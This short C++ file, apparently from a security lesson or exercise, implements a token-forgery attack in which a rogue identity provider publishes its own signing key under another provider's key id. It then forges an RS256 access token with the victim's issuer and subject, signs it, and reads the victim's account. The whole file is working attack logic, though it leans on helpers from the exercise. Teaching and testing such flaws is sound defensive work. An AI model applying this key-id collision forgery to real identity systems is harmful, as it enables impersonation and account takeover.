// Unusual: publishes its key under the id of the other provider's, and so replaces that one.
#include "rogue_provider.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  evidence.publish(evidence.own_key.with_id(evidence.victims_kid));
  const DecodedToken token{.header = {{"alg", "RS256"}, {"typ", "at+jwt"}, {"kid", evidence.victims_kid}},
                           .claims = evidence.own_token.claims};
  auto forged = token;
  forged.claims.set("iss", evidence.victim.issuer);
  forged.claims.set("sub", evidence.victim.subject);
  return {.account = evidence.show_me(sign_rs256(forged, evidence.own_key)).body};
}

}  // namespace lesson
